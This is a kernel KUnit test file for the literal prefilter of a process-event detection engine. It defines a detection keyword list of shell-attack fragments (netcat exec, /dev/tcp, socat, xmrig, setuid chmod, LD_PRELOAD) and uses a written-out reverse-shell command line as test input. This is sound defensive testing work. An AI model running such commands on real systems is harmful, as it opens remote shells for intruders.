// SPDX-License-Identifier: GPL-2.0
/*
 * KUnit: the literal prefilter (suite vigil_prefilter).  A filtered step
 * is skipped exactly when none of its literals occurs; a step whose
 * program can be true without any literal (here: under a NOT) gets no
 * filter and always runs.  The memo of parent and actor fields (struct
 * vigil_pf_memo) gives what a scan of them would.  A step's guard stops
 * it when its own literals are absent.
 */
#include <kunit/test.h>
#include "internal.h"
#include "rs_builder.h"

static const char *const pf_lits[] = {
	"base64 -d",   "nc -e",	  "xmrig",  "/dev/tcp/", "chmod 4755",
	"ld_preload=", "wget -q", "mkfifo", "socat",	 "openssl s_client",
};

/* "@kind where field @f contains one of pf_lits", negated when @neg. */
static u32 pf_rule_kind(struct rsb *b, const char *id, u32 kind, u32 f,
			bool neg)
{
	u32 set = rsb_set_begin(b), step, i;

	for (i = 0; i < ARRAY_SIZE(pf_lits); i++)
		rsb_pat(b, VIGIL_PAT_CONTAINS, VIGIL_PAT_F_NOCASE, pf_lits[i]);
	rsb_set_end(b);
	step = rsb_step_begin(b, 1U << kind);
	rsb_insn(b, VIGIL_OP_MATCH, f, 0, set);
	if (neg)
		rsb_insn(b, VIGIL_OP_NOT, 0, 0, 0);
	rsb_step_end(b);
	return rsb_rule(b, id, VIGIL_RULE_EVENT, step, 1);
}

/* The same, at exec. */
static u32 pf_rule_on(struct rsb *b, const char *id, u32 f, bool neg)
{
	return pf_rule_kind(b, id, VIGIL_EV_EXEC, f, neg);
}

static u32 pf_rule(struct rsb *b, const char *id, bool neg)
{
	return pf_rule_on(b, id, VIGIL_F_PROCESS_COMMAND_LINE, neg);
}

static void on_alert(void *ctx, const struct vigil_match *m)
{
	*(u32 *)ctx |= 1U << m->rule;
}

/*
 * The engine of @b's rules, its blob in *@blob (the caller frees it);
 * NULL, the failure reported, when it is refused.
 */
static struct vigil_engine *pf_engine(struct kunit *test, struct rsb *b,
				      u8 **blob)
{
	struct vigil_engine *e;
	const char *why = NULL;

	*blob = vg_zalloc(rsb_size(b));
	if (!*blob)
		return NULL;
	e = vigil_engine_new(*blob, rsb_finish(b, *blob, rsb_size(b)), NULL,
			     &why);
	KUNIT_EXPECT_FALSE_MSG(test, IS_ERR(e), "engine: %s", why);
	return IS_ERR(e) ? NULL : e;
}

/* An event of @kind whose field @f is @s, or NULL. */
static struct vigil_event *new_event(u32 kind, u32 f, const char *s)
{
	struct vigil_event *ev = vg_zalloc(sizeof(*ev));

	if (!ev)
		return NULL;
	vigil_event_init(ev);
	vigil_event_set_kind(ev, kind);
	vigil_event_set_str(ev, f, s, strlen(s));
	return ev;
}

/*
 * Which rules an event of @kind whose field @f is @s raises, a bit each,
 * with the memo @m (NULL: none).
 */
static u32 hit_kind(struct vigil_engine *e, u32 kind, u32 f, const char *s,
		    struct vigil_pf_memo *m)
{
	struct vigil_event *ev = new_event(kind, f, s);
	u32 hit = 0;

	if (!ev)
		return ~0U;
	vigil_engine_process_memo(e, ev, m, on_alert, &hit);
	vg_free(ev);
	return hit;
}

/* The same, at exec. */
static u32 hit_on(struct vigil_engine *e, u32 f, const char *s,
		  struct vigil_pf_memo *m)
{
	return hit_kind(e, VIGIL_EV_EXEC, f, s, m);
}

static u32 rules_hit(struct vigil_engine *e, const char *cmdline)
{
	return hit_on(e, VIGIL_F_PROCESS_COMMAND_LINE, cmdline, NULL);
}

static void vigil_prefilter_skip(struct kunit *test)
{
	struct rsb *b = vg_zalloc(sizeof(*b));
	struct vigil_engine *e = NULL;
	u8 *blob = NULL;

	KUNIT_ASSERT_NOT_NULL(test, b);
	rsb_init(b);
	pf_rule(b, "contains", false);
	pf_rule(b, "not-contains", true);
	e = pf_engine(test, b, &blob);
	if (!e)
		goto out;
	KUNIT_EXPECT_NE(test, (u32)e->pf.step_slot[0], VIGIL_PF_NONE);
	KUNIT_EXPECT_EQ(test, (u32)e->pf.step_slot[1], VIGIL_PF_NONE);
	KUNIT_EXPECT_EQ(test, e->pf.kslots[VIGIL_EV_EXEC], 1U);
	KUNIT_EXPECT_EQ(test, rules_hit(e, "echo aGkK | BASE64 -D"), 1U);
	KUNIT_EXPECT_EQ(test, rules_hit(e, "bash -i >& /dev/tcp/1.2.3.4/9"),
			1U);
	KUNIT_EXPECT_EQ(test, rules_hit(e, "echo aGkK | base64"), 2U);
	KUNIT_EXPECT_EQ(test, rules_hit(e, "so"), 2U);
	KUNIT_EXPECT_EQ(test, rules_hit(e, ""), 2U);
	vigil_engine_free(e);
out:
	vg_free(blob);
	vg_free(b);
}

/* Does an exec whose parent's command line is @pcmd raise rule 0? */
static u32 memo_hit(struct vigil_engine *e, struct vigil_pf_memo *m,
		    const char *pcmd)
{
	return hit_on(e, VIGIL_F_PARENT_COMMAND_LINE, pcmd, m);
}

/*
 * Which rules a file creation (@exec: an exec) whose command line is
 * @cmdline raises, with @m.
 */
static u32 rules_memo(struct vigil_engine *e, struct vigil_pf_memo *m,
		      bool exec, const char *cmdline)
{
	return hit_kind(e, exec ? VIGIL_EV_EXEC : VIGIL_EV_CREATE,
			VIGIL_F_PROCESS_COMMAND_LINE, cmdline, m);
}

static void vigil_prefilter_memo(struct kunit *test)
{
	struct vigil_pf_memo *m = vg_zalloc(sizeof(*m));
	struct rsb *b = vg_zalloc(sizeof(*b));
	struct vigil_engine *e = NULL;
	u8 *blob = NULL;

	KUNIT_ASSERT_NOT_NULL(test, b);
	KUNIT_ASSERT_NOT_NULL(test, m);
	rsb_init(b);
	pf_rule_on(b, "parent", VIGIL_F_PARENT_COMMAND_LINE, false);
	pf_rule_kind(b, "actor", VIGIL_EV_CREATE, VIGIL_F_PROCESS_COMMAND_LINE,
		     false);
	pf_rule(b, "exec", false);
	e = pf_engine(test, b, &blob);
	if (!e)
		goto out;
	KUNIT_EXPECT_NE(test, (u32)e->pf.step_slot[0], VIGIL_PF_NONE);
	KUNIT_EXPECT_EQ(test, memo_hit(e, m, "sh -c socat"), 1U);
	KUNIT_EXPECT_EQ(test, m->group[VIGIL_PF_MEMO_PARENT].engine, e->id);
	KUNIT_EXPECT_EQ(test, memo_hit(e, m, "sh -c socat"), 1U);
	/* as long, other bytes: not the memo's */
	KUNIT_EXPECT_EQ(test, memo_hit(e, m, "sh -c xxxxx"), 0U);
	KUNIT_EXPECT_EQ(test, memo_hit(e, m, "sh -c SOCAT"), 1U);
	/* the actor's own fields: the same, in their own group */
	KUNIT_EXPECT_EQ(test, rules_memo(e, m, false, "sh -c socat"), 2U);
	KUNIT_EXPECT_EQ(test, m->group[VIGIL_PF_MEMO_ACTOR].engine, e->id);
	KUNIT_EXPECT_EQ(test, rules_memo(e, m, false, "sh -c socat"), 2U);
	KUNIT_EXPECT_EQ(test, rules_memo(e, m, false, "sh -c xxxxx"), 0U);
	/* but not an exec's, a new image's: the group stays the creation's */
	KUNIT_EXPECT_EQ(test, rules_memo(e, m, true, "sh -c socat"), 4U);
	KUNIT_EXPECT_EQ(test,
			memcmp(m->group[VIGIL_PF_MEMO_ACTOR].bytes,
			       "sh -c xxxxx", 11),
			0);
	vigil_engine_free(e);
out:
	vg_free(blob);
	vg_free(b);
	vg_free(m);
}

/*
 * An exec with command line @cmd and program @exe: which rules it
 * raises, a bit each; *@gbit whether the guard slot @g let it through.
 */
static u32 hit_guard(struct vigil_engine *e, const char *cmd, const char *exe,
		     u32 g, bool *gbit)
{
	struct vigil_event *ev =
		new_event(VIGIL_EV_EXEC, VIGIL_F_PROCESS_COMMAND_LINE, cmd);
	u64 hits[VIGIL_PF_WORDS];
	u32 hit = 0;

	if (!ev)
		return ~0U;
	vigil_event_set_str(ev, VIGIL_F_PROCESS_EXECUTABLE, exe, strlen(exe));
	vigil_pf_scan(e, ev, VIGIL_EV_EXEC, hits, NULL);
	*gbit = (hits[g / 64] >> (g % 64)) & 1;
	vigil_engine_process(e, ev, on_alert, &hit);
	vg_free(ev);
	return hit;
}

/*
 * "process.command_line : *literal* and process.executable : /tmp/...":
 * filtered by the command line, guarded by the program, whose field
 * exec events are scanned for anyway (rule 1).  The guard's bit is set
 * exactly when the program is under /tmp/, and the step runs only then.
 */
static void vigil_prefilter_guard(struct kunit *test)
{
	struct rsb *b = vg_zalloc(sizeof(*b));
	struct vigil_engine *e = NULL;
	u32 set, tmp, step, g;
	u8 *blob = NULL;
	bool gbit;

	KUNIT_ASSERT_NOT_NULL(test, b);
	rsb_init(b);
	set = rsb_set_begin(b);
	for (g = 0; g < ARRAY_SIZE(pf_lits); g++)
		rsb_pat(b, VIGIL_PAT_CONTAINS, VIGIL_PAT_F_NOCASE, pf_lits[g]);
	rsb_set_end(b);
	tmp = rsb_set1(b, VIGIL_PAT_PREFIX, 0, "/tmp/");
	step = rsb_step_begin(b, 1U << VIGIL_EV_EXEC);
	rsb_insn(b, VIGIL_OP_MATCH, VIGIL_F_PROCESS_COMMAND_LINE, 0, set);
	rsb_insn(b, VIGIL_OP_JF, 0, 0, 1);
	rsb_insn(b, VIGIL_OP_MATCH, VIGIL_F_PROCESS_EXECUTABLE, 0, tmp);
	rsb_step_end(b);
	rsb_rule(b, "guarded", VIGIL_RULE_EVENT, step, 1);
	pf_rule_on(b, "exe", VIGIL_F_PROCESS_EXECUTABLE, false);
	e = pf_engine(test, b, &blob);
	if (!e)
		goto out;
	KUNIT_ASSERT_NE(test, (u32)e->pf.step_slot[0], VIGIL_PF_NONE);
	g = e->pf.guard_slot[0];
	KUNIT_ASSERT_NE(test, g, VIGIL_PF_NONE);
	KUNIT_EXPECT_EQ(test, hit_guard(e, "socat -", "/tmp/x", g, &gbit), 1U);
	KUNIT_EXPECT_TRUE(test, gbit);
	KUNIT_EXPECT_EQ(test, hit_guard(e, "socat -", "/usr/bin/x", g, &gbit),
			0U);
	KUNIT_EXPECT_FALSE(test, gbit);
	KUNIT_EXPECT_EQ(test, hit_guard(e, "ls", "/tmp/socat", g, &gbit), 2U);
	vigil_engine_free(e);
out:
	vg_free(blob);
	vg_free(b);
}

static struct kunit_case vigil_prefilter_cases[] = {
	KUNIT_CASE(vigil_prefilter_skip),
	KUNIT_CASE(vigil_prefilter_memo),
	KUNIT_CASE(vigil_prefilter_guard),
	{}
};

static struct kunit_suite vigil_prefilter_suite = {
	.name = "vigil_prefilter",
	.test_cases = vigil_prefilter_cases,
};

kunit_test_suite(vigil_prefilter_suite);
